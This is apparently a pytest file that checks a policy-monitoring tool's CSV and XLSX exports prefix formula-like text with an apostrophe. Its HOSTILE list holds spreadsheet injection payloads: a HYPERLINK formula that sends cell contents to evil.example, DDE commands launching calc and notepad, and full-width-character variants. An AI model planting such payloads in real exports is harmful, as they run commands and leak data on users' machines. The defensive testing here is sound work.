"""Crawled text must reach a spreadsheet as text: no cell of a CSV or XLSX export runs a formula.

A title such as ``=HYPERLINK("https://evil.example","open")`` or ``+cmd|' /C calc'!A0`` written
verbatim into a CSV is evaluated by Excel, LibreOffice and Google Sheets when the file is opened.
Every text cell that a spreadsheet would read as a formula gets a leading apostrophe (OWASP's
advice, and what the spreadsheets themselves do for a typed text), in every text column: headline,
title, outlet names, entity lists, sentences, URLs.
"""

from __future__ import annotations

import csv
import re
import zipfile
from html import unescape
from pathlib import Path

import pytest

from policywatch.export import ExportFormat, Selection, export_tables, neutralise_formula
from policywatch.report import synthetic
from warehouse.db import connect

HOSTILE = [
    '=HYPERLINK("https://evil.example/x?"&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",  # leading spaces are dropped by some spreadsheets, then the formula runs
    "\n=1+1",
    "＝1+1",  # full-width equals sign: some spreadsheets fold it into '='
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
]
SAFE = ["Regulator tells DeepSeek", "100% of chips", "a = b", "'quoted already", "e-mail"]


@pytest.mark.parametrize("text", HOSTILE)
def test_would_be_formulas_become_text(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("text", SAFE)
def test_plain_text_is_left_alone(text):
    assert neutralise_formula(text) == text


@pytest.fixture
def hostile_warehouse(warehouse_path):
    with connect(warehouse_path) as con:
        synthetic.small_warehouse(con)
        query = "SELECT development_id FROM developments ORDER BY development_id"
        ids = [r[0] for r in con.execute(query).fetchall()]
        for dev_id, text in zip(ids, HOSTILE, strict=False):
            con.execute("UPDATE developments SET headline = $t WHERE development_id = $d",
                        {"t": text, "d": dev_id})  # fmt: skip
        query = "SELECT article_id FROM articles ORDER BY article_id"
        articles = [r[0] for r in con.execute(query).fetchall()]
        for article_id, text in zip(articles, HOSTILE, strict=False):
            con.execute("UPDATE articles SET title = $t, author = $t WHERE article_id = $a",
                        {"t": text, "a": article_id})  # fmt: skip
        con.execute("UPDATE sources SET name = '=1+2' WHERE outlet_id = "
                    "(SELECT min(outlet_id) FROM sources)")  # fmt: skip
        con.execute("UPDATE entities SET name = '@entity' WHERE entity_id = 'deepseek'")
        con.execute("UPDATE article_signals SET sentence = '-1+cmd' || sentence")
    return warehouse_path


def _csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _xlsx_cells(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet  # no formula cell at all
        assert "<f " not in sheet
        names = book.namelist()
        shared = (
            book.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in names else ""
        )
    texts = re.findall(r"<t(?: [^>]*)?>(.*?)</t>", sheet + shared, flags=re.S)
    return [unescape(t) for t in texts]


READERS = {ExportFormat.csv: _csv_cells, ExportFormat.xlsx: _xlsx_cells}


@pytest.mark.parametrize("fmt", [ExportFormat.csv, ExportFormat.xlsx])
def test_no_exported_cell_starts_a_formula(hostile_warehouse, tmp_path, fmt):
    with connect(hostile_warehouse, read_only=True) as con:
        manifest = export_tables(con, tmp_path / "out", fmt)
    cells = []
    for info in manifest["files"].values():
        cells += READERS[fmt](tmp_path / "out" / info["file"])
    risky = [c for c in cells if re.match(r"^(?:[\t\r]|[ \n]*[=+\-@＝＋－＠])", c)]
    assert not risky, risky[:5]
    # every hostile text arrived, as text, behind its apostrophe
    for text in HOSTILE[:5]:
        assert any(c == "'" + text for c in cells), text
    assert any(c.startswith("'=1+2") for c in cells)  # outlet names, in lists too
    assert any("'@entity" in c for c in cells)
    assert any(c.startswith("'-1+cmd") for c in cells)


def test_filtered_exports_are_neutralised_too(hostile_warehouse, tmp_path):
    with connect(hostile_warehouse, read_only=True) as con:
        export_tables(con, tmp_path / "f", ExportFormat.csv, Selection(policy_only=True))
    cells = _csv_cells(tmp_path / "f" / "timeline.csv")
    assert not [c for c in cells if c[:1] in {"=", "+", "-", "@"}]


def test_machine_formats_keep_the_text_as_stored(hostile_warehouse, tmp_path):
    with connect(hostile_warehouse, read_only=True) as con:
        export_tables(con, tmp_path / "j", ExportFormat.json, datasets=["timeline"])
    text = (tmp_path / "j" / "timeline.jsonl").read_text(encoding="utf-8")
    assert '"=HYPERLINK(' in text or '"@SUM(' in text or '"+cmd' in text
